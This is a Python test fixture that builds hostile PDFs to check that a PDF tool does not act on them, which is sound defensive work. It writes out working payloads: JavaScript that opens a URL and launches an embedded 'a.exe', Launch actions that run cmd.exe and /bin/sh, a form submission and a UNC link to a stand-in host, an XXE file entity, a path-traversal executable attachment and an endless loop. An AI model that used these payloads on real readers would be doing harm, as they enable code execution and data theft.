"""PDFs that ask their reader to do something: run, open, send, fetch. And the files and hosts that they name."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

from tests.hostile.raw import CATALOG, FIRST_FREE, FONT, Objects, one_page, pdf, stream, table

HOST = b"example.invalid"
LURE = "hyokasho-lure"
"""The name of the file that these PDFs name: nothing may open it."""

_TEXT = table([b"(one)", b"(two)"])
_URL = b"https://" + HOST + b"/" + LURE.encode()
_SCRIPT = b"app.launchURL('" + _URL + b"');this.exportDataObject({cName:'a.exe',nLaunch:2});"


def _actions(file: bytes) -> Mapping[str, bytes]:
    return {
        "javascript": b"<</S/JavaScript/JS(%s)>>" % _SCRIPT.replace(b"(", rb"\(").replace(b")", rb"\)"),
        "launch": b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>/Unix<</F(/usr/bin/touch)/P(%s)>>"
            b"/NewWindow true>>" % file,
        "uri": b"<</S/URI/URI(%s)>>" % _URL,
        "go_to_remote": rb"<</S/GoToR/F(\\\\%s\\share\\a.pdf)/D[0/Fit]>>" % HOST,
        "go_to_embedded": b"<</S/GoToE/F(%s)/D[0/Fit]>>" % file,
        "submit_form": b"<</S/SubmitForm/F<</FS/URL/F(%s)>>/Flags 4>>" % _URL,
        "import_data": b"<</S/ImportData/F(%s)>>" % file,
        "rendition": b"<</S/Rendition/OP 0/JS(%s)>>" % _URL,
        "without_end": b"<</S/JavaScript/JS(while\\(1\\);)/Next 3 0 R>>",
    }  # fmt: skip


def _everywhere(action: bytes) -> Objects:
    """A page with the action wherever a reader would start one by itself."""
    calls = b"/AA<</O %s/C %s/E %s/X %s/PO %s/WC %s>>" % ((action,) * 6)
    widget = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(b)/Rect[50 700 90 720]/A %s%s>>" % (action, calls)
    return one_page(_TEXT, page=calls + b"/Annots[%s]" % widget) | {
        CATALOG: b"<</Type/Catalog/Pages 2 0 R/OpenAction %s%s/Names<</JavaScript<</Names[(a)%s]>>>>"
            b"/AcroForm<</Fields[%s]"
        b"/NeedAppearances true/CO[%s]>>>>" % (action, calls, action, widget, widget),
    }  # fmt: skip


def _catalog(entries: bytes) -> dict[int, bytes]:
    return {CATALOG: b"<</Type/Catalog/Pages 2 0 R%s>>" % entries}


def _xfa(file: bytes) -> bytes:
    return (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><!DOCTYPE a [<!ENTITY e SYSTEM "file://' + file + b'">]>'
        b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script>'
        + _SCRIPT + b"</script></event></subform></template>&e;</xdp:xdp>"
    )  # fmt: skip


def _objects(file: bytes) -> Mapping[str, Objects]:
    return {
        **{f"action_{name}": _everywhere(action) for name, action in _actions(file).items()},
        "embedded_file": one_page(_TEXT) | _catalog(b"/Names<</EmbeddedFiles<</Names[(a.exe)6 0 R]>>>>/AF[6 0 R]") | {
            6: b"<</Type/Filespec/F(a.exe)/UF(../../%s.exe)/EF<</F 7 0 R>>>>" % LURE.encode(),
            7: stream(b"MZ\x90\0", b"/Type/EmbeddedFile/Subtype/application#2Fx-msdownload"),
        },
        "xfa_form": one_page(_TEXT) | _catalog(b"/AcroForm<</XFA 6 0 R/Fields[]>>"
            b"/NeedsRendering true") | {6: stream(_xfa(file))},
        "metadata_with_entities": one_page(_TEXT) | _catalog(b"/Metadata 6 0 R") | {
            6: stream(_xfa(file), b"/Type/Metadata/Subtype/XML"),
        },
        "content_in_another_file": one_page() | {
            4: stream(b"", b"/F<</Type/Filespec/FS/URL/F(%s)>>/FFilter/FlateDecode" % _URL),
        },
        "content_in_a_local_file": one_page() | {4: stream(b"", b"/F(%s)" % file)},
        "font_in_another_file": one_page(_TEXT) | {
            FONT: b"<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 6 0 R>>",
            6: b"<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 7 0 R>>",
            7: stream(b"", b"/F(%s)" % file),
        },
        "character_map_beside_the_file": one_page(_TEXT) | {
            FONT: b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/..#2F..#2F..#2F..#2F..%s/DescendantFonts[6 0 R]>>"
            % file.replace(b"/", b"#2F"),
            6: b"<</Type/Font/Subtype/CIDFontType0/BaseFont/X/CIDSystemInfo<</Registry(..%s)/Ordering(..%s)"
                b"/Supplement 0>>>>"
            % (file, file),
        },
        "page_of_another_file": one_page(b"/X Do", resources=b"/XObject<</X 6 0 R>>") | {
            FIRST_FREE: stream(b"", b"/Subtype/Form/BBox[0 0 9 9]/Ref<</F(%s)/Page 0>>" % file),
        },
        "picture_of_another_file": one_page(b"/X Do", resources=b"/XObject<</X 6 0 R>>") | {
            FIRST_FREE: stream(b"", b"/Subtype/Image/Width 1/Height 1/F(%s)/OPI<</2.0<</F(%s)>>>>" % (file, file)),
        },
        "film": one_page(_TEXT, page=b"/Annots[<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F(%s)>>"
            b"/A true>>]" % _URL),
        "flash": one_page(_TEXT, page=b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets"
                          b"<</Names[(a.swf)<</F(%s)>>]>>>>/RichMediaSettings<</Activation<</Condition"
                          b"/PO>>>>>>]" % _URL),
        "collection": one_page(_TEXT) | _catalog(b"/Collection<</View/C/D(%s)>>/URI<</Base(%s)>>" % (file, _URL)),
        "opened_by_script": one_page(_TEXT) | _catalog(b"/Requirements[<</S/EnableJavaScripts/RH<</S/JS"
            b"/Script(%s)>>>>]" % _URL),
    }  # fmt: skip


def active_files(folder: Path) -> Mapping[str, bytes]:
    """PDFs by name; the local file that they name is `LURE` in `folder`."""
    return {name: pdf(objects) for name, objects in _objects((folder / LURE).as_posix().encode()).items()}
